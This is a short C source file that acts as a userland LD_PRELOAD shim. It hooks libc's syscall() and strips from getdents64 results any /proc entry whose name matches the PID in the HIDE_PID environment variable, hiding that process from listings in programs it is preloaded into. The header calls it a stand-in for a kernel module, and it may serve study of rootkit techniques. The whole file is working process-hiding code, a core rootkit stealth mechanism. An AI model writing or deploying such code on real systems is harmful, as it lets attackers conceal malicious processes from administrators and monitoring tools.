/* preload_list.c - stands in for a kernel module that edits what getdents64(2)
 * gives: no list of /proc has the pid in $HIDE_PID, for whoever asks.  (Only in
 * the program that it is preloaded into, and only for syscall(2).) */
#include <dlfcn.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>

struct entry {
	uint64_t ino;
	int64_t next;
	uint16_t len;
	uint8_t type;
	char name[];
};

static long leave_out(char *buf, long n, const char *pid)
{
	for (long at = 0; at < n;) {
		struct entry *e = (void *)(buf + at);
		long len = e->len;

		if (strcmp(e->name, pid)) {
			at += len;
			continue;
		}
		memmove(buf + at, buf + at + len, (size_t)(n - at - len));
		n -= len;
	}
	return n;
}

long syscall(long number, ...)
{
	static long (*next)(long, ...);
	const char *pid = getenv("HIDE_PID");
	long a[6], n;
	va_list ap;

	va_start(ap, number);
	for (int i = 0; i < 6; i++)
		a[i] = va_arg(ap, long);
	va_end(ap);
	if (!next)
		*(void **)&next = dlsym(RTLD_NEXT, "syscall");
	n = next(number, a[0], a[1], a[2], a[3], a[4], a[5]);
	return number == SYS_getdents64 && pid && n > 0
		       ? leave_out((char *)a[1], n, pid)
		       : n;
}
